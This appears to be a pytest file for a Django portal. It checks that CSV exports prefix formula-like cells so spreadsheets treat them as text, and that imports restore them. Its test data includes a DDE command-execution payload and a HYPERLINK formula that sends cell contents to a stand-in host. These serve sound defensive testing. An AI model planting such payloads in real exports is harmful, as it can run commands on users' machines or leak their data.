"""CSV injection: no export of the portal hands a spreadsheet a cell it would run as a formula."""

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse

from portal.csv_export import FORMULA_STARTS, restore_cell, safe_cell
from presence.models import Representative
from reports.rollups import rollups_refresh
from tests.clock import T0
from tests.factories import PresenceStatusFactory, RepresentativeFactory, builtin
from tests.reports.history_helpers import write_history

pytestmark = pytest.mark.django_db

DAY = f"period=custom&date_from={T0.date()}&date_to={T0.date()}&tz=UTC"  # the tests' day
EVIL_REP = "@cmd|' /C calc'!A0"
EVIL_STATUS = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'


def cells(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def live_formulas(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in FORMULA_STARTS]


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1", "'=1", "''=1", "plain", "", "'"],
)
def test_safe_cell_round_trips_and_never_starts_a_formula(text):
    """Review finding 1: the shared writer's guard, and the importer's inverse of it."""
    guarded = safe_cell(text)
    assert guarded[:1] not in FORMULA_STARTS
    assert restore_cell(guarded) == text


def test_numbers_pass_as_numbers():
    """Review finding 1: the portal's own figures are not text and stay numbers, negative too."""
    assert safe_cell(-5) == -5
    assert safe_cell(2.5) == 2.5


@time_machine.travel(T0.replace(hour=0) + dt.timedelta(days=2), tick=False)
@pytest.mark.parametrize("export", ["reps", "days", "hours", "timeline"])
def test_historical_exports_neutralise_formulas_in_names_and_headers(client, admin_user, export):
    """Review finding 1: a rep or status named as a formula reaches the file as text, in every
    historical export (by rep, by day, hourly, a rep's timeline), headers included."""
    rep = RepresentativeFactory(name=EVIL_REP)
    status = PresenceStatusFactory(name=EVIL_STATUS, base_status="away")
    write_history(rep, T0, [(builtin("available"), 600), (status, 600)], open_last=False)
    rollups_refresh(now=T0 + dt.timedelta(days=1))
    client.force_login(admin_user)
    if export == "timeline":
        url = reverse("reports:historical_rep", args=[rep.pk])
    else:
        url = reverse("reports:historical")
    rows = cells(client.get(f"{url}?{DAY}&export={export}"))
    assert live_formulas(rows) == []
    flat = [cell for row in rows for cell in row]
    expected = {
        "reps": ["'" + EVIL_REP, f"'{EVIL_STATUS} (Away) (s)"],
        "days": [f"'{EVIL_STATUS} (Away) (s)"],
        "hours": ["'" + EVIL_REP],
        "timeline": ["'" + EVIL_STATUS],
    }[export]
    for text in expected:
        assert text in flat  # shown as text, not dropped


def test_default_presence_export_guards_every_column_and_round_trips(client, admin_user):
    """Review finding 1: the defaults export guards keys and status names too (it guarded only the
    rep's name), and the upload of that very file reads them back as they were."""
    status = PresenceStatusFactory(name="=Training", base_status="away")
    rep = RepresentativeFactory(name="+Rep", email="", external_id="-EXT-1", default_presence=None)
    RepresentativeFactory(name="Ada", email="ada@example.com", default_presence=status)
    client.force_login(admin_user)
    exported = b"".join(
        client.get(reverse("presence:config_defaults_export")).streaming_content
    ).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported)))
    assert live_formulas(rows) == []
    assert ["ada@example.com", "'=Training", "Ada"] in rows
    assert ["'-EXT-1", "", "'+Rep"] in rows
    # The same file, with the guarded status given to the guarded key, applies to the right rep.
    edited = exported.replace("'-EXT-1,,", "'-EXT-1,'=Training,")
    upload = io.BytesIO(edited.encode())
    upload.name = "defaults.csv"
    html = client.post(reverse("presence:config_defaults_import"), {"file": upload})
    page = html.content.decode()
    assert 'data-count="changes">1<' in page
    assert 'data-count="invalid">0<' in page
    assert Representative.objects.get(pk=rep.pk).default_presence_id is None  # preview only
